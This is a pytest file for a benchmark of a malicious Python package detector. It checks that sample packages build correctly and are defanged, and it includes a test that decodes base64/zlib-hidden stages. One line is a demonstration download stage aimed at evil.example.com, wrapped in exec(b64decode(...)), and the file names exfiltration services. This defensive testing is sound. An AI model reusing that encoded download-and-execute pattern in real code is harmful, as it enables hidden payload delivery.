"""The malicious development set builds into well-formed archives; quality.py runs and sums up.

No recall target is asserted here: the figures are measured by `benchmarks/quality.py`.
"""

from __future__ import annotations

import ast
import base64
import gzip
import hashlib
import io
import ipaddress
import re
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest

from benchmarks.malicious_set import (
    HOLDOUT_DIR,
    LOOKALIKES_DIR,
    THREAT_TYPES,
    Sample,
    SampleError,
    build_archives,
    load_samples,
)
from benchmarks.quality import Outcome, format_report, main, summarize

SAMPLES = load_samples()
LOOKALIKES = load_samples(LOOKALIKES_DIR)
HOLDOUT = load_samples(HOLDOUT_DIR)

# Endpoints kept as real hosts because their kind is what a detector must see; the webhook ids,
# bot tokens and API keys in them are placeholders.
_SERVICE_HOSTS = {"discord.com", "api.telegram.org", "pastebin.com", "api.ipify.org",
                  "webhook.site"}
# The cloud instance metadata service: a credential *source* the sample reads, not a sink.
_METADATA_IP = ipaddress.ip_address("169.254.169.254")
_DOCUMENTATION_NETS = [ipaddress.ip_network(n) for n in
                       ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")]


def _ids(samples: list[Sample]) -> list[str]:
    return [s.id for s in samples]


def test_the_set_is_large_and_covers_every_threat_type_several_times() -> None:
    assert len(SAMPLES) >= 60
    for threat in THREAT_TYPES:
        assert sum(threat in s.threats for s in SAMPLES) >= 3, threat
    assert len({s.id for s in SAMPLES}) == len(SAMPLES)
    assert len({(s.name, s.version) for s in SAMPLES}) == len(SAMPLES)


def test_the_held_out_set_covers_every_threat_type_and_is_disjoint_from_development() -> None:
    assert len(HOLDOUT) >= 40
    for threat in THREAT_TYPES:
        assert sum(threat in s.threats for s in HOLDOUT) >= 3, threat
    assert all(s.threats for s in HOLDOUT)
    assert len({(s.name, s.version) for s in HOLDOUT}) == len(HOLDOUT)
    # A held-out sample is a different package, not a copy of a development sample.
    assert not {s.id for s in HOLDOUT} & {s.id for s in SAMPLES}
    assert not {s.name for s in HOLDOUT} & {s.name for s in SAMPLES}
    development_files = {c for s in SAMPLES for c in s.files.values()}
    for sample in HOLDOUT:
        code = {c for c in sample.files.values() if len(c) > 40}  # not empty __init__.py
        assert not code & development_files, sample.id


def test_benign_look_alikes_expect_no_threat_and_name_what_they_resemble() -> None:
    assert len(LOOKALIKES) >= 10
    for sample in LOOKALIKES:
        assert sample.benign and not sample.threats
        assert sample.looks_like and set(sample.looks_like) <= set(THREAT_TYPES)


@pytest.mark.parametrize("sample", SAMPLES + LOOKALIKES + HOLDOUT,
                         ids=_ids(SAMPLES + LOOKALIKES + HOLDOUT))
def test_sample_archives_are_well_formed(sample: Sample) -> None:
    archives = dict(build_archives(sample))
    assert len(archives) == len(sample.artifacts)
    for filename, data in archives.items():
        if filename.endswith(".whl"):
            _check_wheel(sample, data)
        else:
            assert filename.endswith(".tar.gz")
            _check_sdist(sample, data)


@pytest.mark.parametrize("sample", SAMPLES + LOOKALIKES + HOLDOUT,
                         ids=_ids(SAMPLES + LOOKALIKES + HOLDOUT))
def test_sample_python_files_parse(sample: Sample) -> None:
    """A sample with a syntax error measures nothing (parsing is not running it)."""
    for path, content in sample.files.items():
        if path.endswith(".py"):
            ast.parse(content, filename=f"{sample.id}/{path}")


def _check_sdist(sample: Sample, data: bytes) -> None:
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as archive:
        members = {m.name: m for m in archive.getmembers()}
        top = next(iter(members)).split("/", 1)[0]
        assert all(name.startswith(top + "/") for name in members)
        assert f"{top}/PKG-INFO" in members
        for path, content in sample.files.items():
            extracted = archive.extractfile(members[f"{top}/{path}"])
            assert extracted is not None and extracted.read() == content


def _check_wheel(sample: Sample, data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        names = set(archive.namelist())
        record_name = next(n for n in names if n.endswith(".dist-info/RECORD"))
        assert "setup.py" not in names
        record = archive.read(record_name).decode()
        for line in record.splitlines():
            path, digest, _ = line.rsplit(",", 2)
            if path == record_name:
                continue
            expected = base64.urlsafe_b64encode(hashlib.sha256(archive.read(path)).digest())
            assert digest == "sha256=" + expected.rstrip(b"=").decode(), path
        installed = {p for p in sample.files if p not in {"setup.py", "pyproject.toml"}}
        assert installed <= names


@pytest.mark.parametrize("sample", SAMPLES + HOLDOUT, ids=_ids(SAMPLES + HOLDOUT))
def test_sample_is_defanged(sample: Sample) -> None:
    """Every URL or connect target points at a reserved name, a documentation IP, or a service
    whose kind matters (with placeholder credentials)."""
    for path, stored in sample.files.items():
        # A gzipped resource is read as its text.
        content = gzip.decompress(stored) if stored.startswith(b"\x1f\x8b") else stored
        joined = re.sub(rb"[\"']\s*\n\s*[\"']", b"", content)  # "chunk" "chunk" literals
        for text in (content.decode("utf-8", "replace"), *_decoded_layers(joined)):
            _check_defanged_text(path, text)


def _check_defanged_text(path: str, text: str) -> None:
    for host in re.findall(r"https?://([A-Za-z0-9.-]+)", text):
        assert _harmless_host(host), f"{path}: {host}"
    for address in re.findall(r"\b(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})\b", text):
        ip = ipaddress.ip_address(address)
        assert ip.is_unspecified or ip == _METADATA_IP or any(
            ip in n for n in _DOCUMENTATION_NETS), address
    for token in re.findall(r"discord\.com/api/webhooks/([^\"']+)", text):
        assert "defanged" in token, token


_ENCODED = re.compile(rb"[A-Za-z0-9+/=_-]{40,}")


def _decoded_layers(content: bytes, depth: int = 3) -> list[str]:
    """Text hidden in long base64/base32/hex literals (and zlib/gzip inside), decoded up to
    `depth` layers: an encoded stage must be defanged too. Decoding is not running."""
    found: list[str] = []
    if depth == 0:
        return found
    for token in _ENCODED.findall(content):
        for decode in (base64.b64decode, base64.b32decode, _from_hex):
            try:
                raw = decode(token)
            except ValueError:
                continue
            for unpack in (lambda b: b, zlib.decompress, gzip.decompress):
                try:
                    data = unpack(raw)
                except (OSError, EOFError, zlib.error):
                    continue
                text = data.decode("utf-8", "replace")
                if sum(c.isprintable() or c in "\n\t" for c in text) > 0.95 * len(text):
                    found.append(text)
                    found += _decoded_layers(data, depth - 1)
    return found


def test_defanging_check_sees_through_encoded_stages() -> None:
    stage = b'urlopen("https://evil.example.com/x")'
    hidden = base64.b64encode(zlib.compress(stage)).decode()
    chunked = '"' + '"\n    "'.join(hidden[i:i + 16] for i in range(0, len(hidden), 16)) + '"'
    for content in (f"exec(b64decode('{hidden}'))".encode(), chunked.encode()):
        joined = re.sub(rb"[\"']\s*\n\s*[\"']", b"", content)
        assert any("evil.example.com" in text for text in _decoded_layers(joined))
    with pytest.raises(AssertionError):
        _check_defanged_text("x.py", stage.decode())


def _from_hex(token: bytes) -> bytes:
    return bytes.fromhex(token.decode())


def _harmless_host(host: str) -> bool:
    if host.endswith(".invalid") or host in _SERVICE_HOSTS or host == str(_METADATA_IP):
        return True
    try:
        return any(ipaddress.ip_address(host) in n for n in _DOCUMENTATION_NETS)
    except ValueError:
        return False


def test_a_sample_without_threats_is_refused(tmp_path: Path) -> None:
    directory = tmp_path / "bad"
    (directory / "src").mkdir(parents=True)
    (directory / "src" / "x.py").write_text("x = 1\n")
    (directory / "sample.toml").write_text(
        'name = "x"\nversion = "1"\ndescription = "d"\nthreats = ["not-a-threat"]\n'
        'capabilities = []\nartifacts = ["sdist"]\nprovenance = "p"\n'
    )
    with pytest.raises(SampleError, match="threats"):
        load_samples(tmp_path)


def test_summary_counts_recall_blocks_and_warnings() -> None:
    outcomes = [
        Outcome(kind="malicious", label="a", verdict="failure", seconds=0.1,
                alerts=(("download-exec", "block"), ("network", "warn")),
                expected=("download-exec",)),
        Outcome(kind="malicious", label="b", verdict="success", seconds=0.3,
                alerts=(("network", "warn"),), expected=("exfiltration", "download-exec")),
        Outcome(kind="added", label="requests==2.32.3", verdict="failure", seconds=1.0,
                alerts=(("sensitive-read", "block"),)),
        Outcome(kind="added", label="six==1.17.0", verdict="success", seconds=0.2),
        Outcome(kind="upgrade", label="idna 3.7 → 3.10", verdict="success", seconds=0.5,
                alerts=(("dynamic-code", "warn"), ("network", "warn"))),
        Outcome(kind="upgrade", label="attrs 24 → 25", verdict="success", seconds=0.4),
        Outcome(kind="upgrade", label="x 1 → 2", verdict="error", seconds=0.0, error="boom"),
    ]
    report = summarize(outcomes)
    assert report.malicious is not None and report.malicious.share == 0.5
    assert report.popular is not None and report.popular.blocked == 1
    assert report.upgrades is not None and report.upgrades.errors == 1
    assert report.median_warn_per_upgrade == 0  # 2, 0, 0
    assert report.blocked_by_threat == 1
    rows = {row.type: row for row in report.rows}
    assert (rows["download-exec"].expected, rows["download-exec"].reported) == (2, 1)
    assert rows["sensitive-read"].popular_blocks == 1
    assert rows["network"].upgrade_warns == 1
    table = format_report(report)
    assert "| malicious samples (recall) | 2 | 1 | 50.0% | ≥ 95% | MISS |" in table
    assert "- `b` (shows exfiltration, download-exec): success; raised network (warn)" in table
    assert "- added `requests==2.32.3`: sensitive-read" in table
    assert "Benign packages blocked (1):" in table
    assert "- `x 1 → 2`: boom" in table


def test_malicious_only_mode_runs_on_three_samples(capsys: pytest.CaptureFixture[str]) -> None:
    chosen = ["init-download-exe", "revshell-dup2-pty", "setup-exec-base64"]
    arguments = ["--malicious-only", "--no-save", "--jobs", "1"]
    for sample_id in chosen:
        arguments += ["--only", sample_id]
    assert main(arguments) == 0
    table = capsys.readouterr().out
    row = next(line for line in table.splitlines() if line.startswith("| malicious samples"))
    assert "| benign look-alikes, added (offline) | not run |" in table
    assert row.split("|")[2].strip() == "3"
    assert "| popular releases, added | not run |" in table
    misses = table.split("Malicious samples not blocked", 1)[1].split("Expected threat types")[0]
    listed = [s for s in chosen if f"`{s}`" in misses]
    blocked = int(row.split("|")[3])
    assert len(listed) == 3 - blocked  # every sample not blocked is named as a miss


def test_holdout_mode_runs_the_held_out_set_only(capsys: pytest.CaptureFixture[str]) -> None:
    chosen = ["socket-recv-exec-thread", "xdg-autostart-desktop"]
    arguments = ["--holdout", "--no-save", "--jobs", "1"]
    for sample_id in chosen:
        arguments += ["--only", sample_id]
    assert main(arguments) == 0
    table = capsys.readouterr().out
    assert "held-out set" in table.splitlines()[0]
    row = next(line for line in table.splitlines() if line.startswith("| malicious samples"))
    assert row.split("|")[2].strip() == "2"
    assert "| benign look-alikes, added (offline) | not run |" in table
    assert "| popular releases, added | not run |" in table


def test_benign_set_choice_skips_pre_releases_and_reads_archive_listings() -> None:
    from packaging.utils import canonicalize_name

    from benchmarks.benign_sets import _final_versions, _has_python
    from bot.index.interface import ProjectFiles, ReleaseFile
    from tests.analysis.builders import build_sdist, build_wheel

    def file(name: str, yanked: str | None = None) -> ReleaseFile:
        made = ReleaseFile.from_filename(name, url=f"https://files.example.invalid/{name}",
                                         yanked=yanked)
        assert made is not None
        return made

    project = ProjectFiles(name=canonicalize_name("demo"), files=(
        file("demo-1.0.tar.gz"), file("demo-1.1-py3-none-any.whl", yanked="broken"),
        file("demo-1.2.tar.gz"), file("demo-2.0b1.tar.gz"), file("demo-2.0.dev1.tar.gz"),
    ))
    assert [str(v) for v in _final_versions(project)] == ["1.0", "1.2"]
    assert _has_python("d.whl", build_wheel("d", "1", {"d/__init__.py": ""}))
    assert not _has_python("d.whl", build_wheel("d", "1", {"d/py.typed": ""}))
    assert _has_python("d-1.tar.gz", build_sdist("d", "1", {"d/x.py": ""}))
    assert not _has_python("d-1.tar.gz", b"not an archive")
